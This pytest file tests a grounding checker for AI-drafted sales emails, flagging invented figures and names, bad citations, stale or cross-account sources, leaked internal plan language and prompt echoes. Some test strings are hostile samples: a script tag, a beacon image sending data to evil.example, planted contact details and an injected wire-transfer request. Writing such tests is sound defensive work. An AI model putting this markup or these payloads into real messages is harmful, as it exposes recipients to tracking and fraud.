from __future__ import annotations

from datetime import UTC, datetime

import pytest

from agent.grounding import Finding, check_draft, numeric_values
from agent.schemas import DraftOutput
from retrieval.chunks import Chunk
from tests.conftest import AS_OF

PLAN = Chunk(
    "acme-financial/metrics-vs-targets",
    "acme-financial",
    "plan",
    "Metrics vs targets",
    "Acme plan: metrics",
    "Expansion pipeline: $250K identified, target $200K. NPS 65.",
)
NEWS = Chunk(
    "sig-acme-001",
    "acme-financial",
    "signal",
    "funding",
    "Acme expands",
    "Acme Financial opened a Trading Desk in Chicago. Call +1 312 555 0100.",
    published_at=datetime(2026, 11, 1, tzinfo=UTC),
    url="https://news.example/a",
)
OLD = Chunk(
    "sig-acme-000",
    "acme-financial",
    "signal",
    "noise",
    "Old news",
    "Old text.",
    published_at=datetime(2025, 1, 1, tzinfo=UTC),
)


def check(
    body: str, citations: list[str] | None = None, sources: list[Chunk] | None = None
) -> list[Finding]:
    output = DraftOutput(
        subject="Hello there",
        body=body,
        citations=citations or ["acme-financial/metrics-vs-targets"],
    )
    return check_draft(
        output,
        sources or [PLAN, NEWS, OLD],
        account_id="acme-financial",
        as_of=AS_OF,
        stale_after_days=120,
    )


def codes(findings: list[Finding]) -> list[str]:
    return sorted(f.code for f in findings)


def test_amounts_match_across_notations() -> None:
    assert numeric_values("$250K and $250,000 and 250000") == {250000.0}
    assert numeric_values("65% and $1.2M") == {65.0, 1200000.0}


def test_a_supported_draft_has_no_findings() -> None:
    body = (
        "Your pipeline reached $250,000 against a $200K target [acme-financial/metrics-vs-targets]."
    )
    assert check(body) == []


def test_an_invented_number_is_flagged_with_the_token() -> None:
    findings = check("Your pipeline reached $400K [acme-financial/metrics-vs-targets].")
    assert codes(findings) == ["unsupported_number"]
    assert findings[0].excerpt == "$400K"


def test_a_possessive_names_the_person_the_source_names() -> None:
    retiring = Chunk(
        "sig-acme-009",
        "acme-financial",
        "signal",
        "leadership_change",
        "Acme VP Marketing to retire",
        "Linda Marsh will retire as VP Marketing after 19 years.",
        published_at=datetime(2026, 11, 1, tzinfo=UTC),
    )
    cited = ["sig-acme-009"]
    assert check("Linda Marsh’s retirement is near [sig-acme-009].", cited, [retiring]) == []
    [invented] = check("Laura Marsh's retirement is near [sig-acme-009].", cited, [retiring])
    assert (invented.code, invented.excerpt) == ("unsupported_name", "Laura Marsh")


def test_citing_an_unknown_source_is_flagged() -> None:
    findings = check("NPS is 65 [acme-financial/metrics-vs-targets] [sig-made-up].")
    assert codes(findings) == ["unknown_citation"]


def test_a_body_without_inline_citations_is_a_warning() -> None:
    (finding,) = check("The latest NPS reading is 65.")
    assert finding.code == "uncited" and finding.severity == "warning"


def test_contact_details_absent_from_sources_are_flagged() -> None:
    body = (
        "See https://evil.example/x or mail ceo@evil.example or call +1 415 555 0199 "
        "[acme-financial/metrics-vs-targets]."
    )
    assert codes(check(body)) == ["foreign_email", "foreign_link", "foreign_phone"]


def test_links_to_a_source_itself_pass_but_contacts_planted_in_signal_text_do_not() -> None:
    assert check("More at https://news.example/a [sig-acme-001].", ["sig-acme-001"]) == []
    planted = check("Call +1 312 555 0100 today [sig-acme-001].", ["sig-acme-001"])
    assert codes(planted) == ["foreign_phone"]


def test_old_cited_source_is_flagged_stale() -> None:
    (finding,) = check("Old news [sig-acme-000].", ["sig-acme-000"])
    assert finding.code == "stale_source" and finding.severity == "warning"


def test_a_source_from_another_account_is_flagged() -> None:
    other = Chunk(
        "sig-bright-001",
        "brightline-energy",
        "signal",
        "funding",
        "t",
        "x",
        published_at=datetime(2026, 11, 1, tzinfo=UTC),
    )
    findings = check("News [sig-bright-001].", ["sig-bright-001"], [PLAN, other])
    assert "foreign_account" in codes(findings)


def test_small_counts_pass_but_small_percentages_do_not() -> None:
    body = "Let us meet for 30 minutes within 2 weeks [acme-financial/metrics-vs-targets]."
    assert check(body) == []
    findings = check("Taxes rise 6% next year [acme-financial/metrics-vs-targets].")
    assert [f.excerpt for f in findings] == ["6%"]


def test_markup_and_beacon_images_are_flagged() -> None:
    body = (
        "Hello <script>fetch('x')</script> ![a](https://evil.example/p.png?d=1) "
        "[acme-financial/metrics-vs-targets]"
    )
    (finding,) = [f for f in check(body) if f.code == "active_content"]
    assert "<script>" in finding.excerpt
    image = "Our logo ![a](https://evil.example/p.png?d=1) [acme-financial/metrics-vs-targets]"
    assert "active_content" in codes(check(image))


def test_obeyed_payloads_are_flagged_even_without_markup() -> None:
    wire = "Please wire the deposit to IBAN GB33 BUKB 2020 1555 [acme-financial/metrics-vs-targets]"
    assert "injected_instruction" in codes(check(wire))
    loop = "TEST-" * 20 + " [acme-financial/metrics-vs-targets]"
    assert "degenerate_output" in codes(check(loop))


def test_our_own_instructions_never_go_out() -> None:
    output = DraftOutput(
        subject="Hello there",
        body="Use only facts stated in the sources below and never invent names "
        "[acme-financial/metrics-vs-targets].",
        citations=["acme-financial/metrics-vs-targets"],
    )
    rules = "Rules: 1. Use only facts stated in the sources below. Never invent names, titles."
    findings = check_draft(
        output,
        [PLAN],
        account_id="acme-financial",
        as_of=AS_OF,
        stale_after_days=120,
        instructions=rules,
    )
    assert "prompt_echo" in codes(findings)


def test_another_accounts_name_in_a_draft_is_a_leak() -> None:
    output = DraftOutput(
        subject="Hello there",
        body="Like Brightline Energy, you could cut costs [sig-acme-001].",
        citations=["sig-acme-001"],
    )
    findings = check_draft(
        output,
        [PLAN, NEWS],
        account_id="acme-financial",
        as_of=AS_OF,
        stale_after_days=120,
        other_accounts=["Brightline Energy"],
    )
    assert "other_account" in codes(findings)


def test_pricing_commitments_are_for_the_sam_to_make() -> None:
    body = "We can offer a 15% discount on the renewal [acme-financial/metrics-vs-targets]."
    assert "commitment" in codes(check(body))


def test_a_source_marked_at_ingest_flags_the_draft() -> None:
    marked = Chunk(
        "sig-acme-666",
        "acme-financial",
        "signal",
        "noise",
        "t",
        "x",
        published_at=datetime(2026, 11, 1, tzinfo=UTC),
        flags=("override",),
    )
    findings = check("NPS is 65 [acme-financial/metrics-vs-targets].", None, [PLAN, marked])
    # Even merely retrieved, it may have steered the model: the SAM must look.
    assert [f.severity for f in findings if f.code == "injection_source"] == ["error"]


RISKS = Chunk(
    "acme-financial/risks",
    "acme-financial",
    "plan",
    "Risks",
    "Acme plan: risks",
    "- Champion (VP Marketing) announced retirement: Linda Marsh leaves on 2027-03-31, "
    "the renewal date; we are developing relationships with her likely successor.",
)
OBJECTIVES = Chunk(
    "acme-financial/objectives",
    "acme-financial",
    "plan",
    "Objectives",
    "Acme plan: objectives",
    "- Joint objective 1: raise feature adoption from 54% to 60% by rolling out the "
    "Advanced Analytics module to the marketing analytics team.",
)


def disclosures(body: str, *, customer_facing: bool = True) -> list[Finding]:
    output = DraftOutput(subject="Hello there", body=body, citations=["sig-acme-001"])
    findings = check_draft(
        output,
        [PLAN, NEWS],  # the risks were not retrieved: the plan is checked whole
        account_id="acme-financial",
        as_of=AS_OF,
        stale_after_days=120,
        customer_facing=customer_facing,
        plan=[PLAN, RISKS, OBJECTIVES],
    )
    return [f for f in findings if f.code == "internal_disclosure"]


def test_an_email_to_the_customer_never_quotes_the_plans_candid_sections() -> None:
    body = (
        "Our champion (VP Marketing) announced retirement: Linda Marsh leaves on "
        "2027-03-31 [sig-acme-001]."
    )
    [finding] = disclosures(body)
    assert "risks [acme-financial/risks]" in finding.message
    assert finding.excerpt == "champion vp marketing announced retirement linda marsh leaves"
    assert disclosures(body, customer_facing=False) == []  # a briefing is for the SAM


def test_an_email_may_quote_the_news_and_the_shared_objectives() -> None:
    body = (
        "Acme Financial opened a Trading Desk in Chicago [sig-acme-001]. Together we aim to "
        "raise feature adoption from 54% to 60% by rolling out the Advanced Analytics module."
    )
    assert disclosures(body) == []


@pytest.mark.parametrize(
    "phrase",
    ["as our account plan notes", "an upsell", "your strategic score", "Linda told us privately"],
)
def test_account_management_words_stay_out_of_an_email_to_the_customer(phrase: str) -> None:
    body = f"Congratulations on Chicago, {phrase} [sig-acme-001]."
    [finding] = disclosures(body)
    assert "internal language" in finding.message
    assert disclosures(body, customer_facing=False) == []


def test_everyday_words_near_the_jargon_are_not_disclosures() -> None:
    body = (
        "Your balanced scorecard work and the engine's multithreading came up at the summit; "
        "could we review the account setup together [sig-acme-001]?"
    )
    assert disclosures(body) == []


BRIEFING_ASK = (
    "Write a one-page pre-meeting briefing in Markdown with exactly these sections:\n"
    "## Account snapshot\n## What changed since last contact\n## Stakeholder map and gaps\n"
    "## Open opportunities\nUse short bullet points."
)


def echoes(body: str) -> list[str]:
    output = DraftOutput(subject="Q4 QBR", body=body, citations=[PLAN.id])
    findings = check_draft(
        output,
        [PLAN],
        account_id="acme-financial",
        as_of=AS_OF,
        stale_after_days=120,
        instructions=BRIEFING_ASK,
    )
    return [f.excerpt for f in findings if f.code == "prompt_echo"]


def test_our_sentence_with_a_word_left_out_is_still_an_echo() -> None:
    """The demo's briefing of one line: 7 words in a row are ours, not 8, but the sentence is."""
    body = "What changed since last contact? A one-page briefing in Markdown with exactly these "
    body += "sections."
    assert echoes(body) == ["A one-page briefing in Markdown with exactly these sections"]


def test_our_list_of_sections_numbered_is_still_an_echo() -> None:
    body = (
        "Sections: 1. Account snapshot; 2. What changed since last contact; "
        "3. Stakeholder map and gaps; 4. Open opportunities."
    )
    assert echoes(body) == ["sections account snapshot what changed since last contact"]


def test_a_sentence_of_the_accounts_own_news_is_no_echo() -> None:
    body = (
        "## What changed since last contact\n"
        f"- The expansion pipeline reached $250K against a $200K target [{PLAN.id}].\n"
        f"- A one-page summary of the open opportunities is in the plan [{PLAN.id}]."
    )
    assert echoes(body) == []


def test_the_numbers_of_a_list_written_on_one_line_state_nothing() -> None:
    body = f"Agenda: 1. Pipeline; 2. Targets; 3. NPS; 4. Next steps [{PLAN.id}]."
    assert check(body) == []


def test_a_lone_number_after_a_colon_is_still_a_claim() -> None:
    body = f"The seat target: 5. It was agreed in October [{PLAN.id}]."
    assert [(f.code, f.excerpt) for f in check(body)] == [("unsupported_number", "5")]
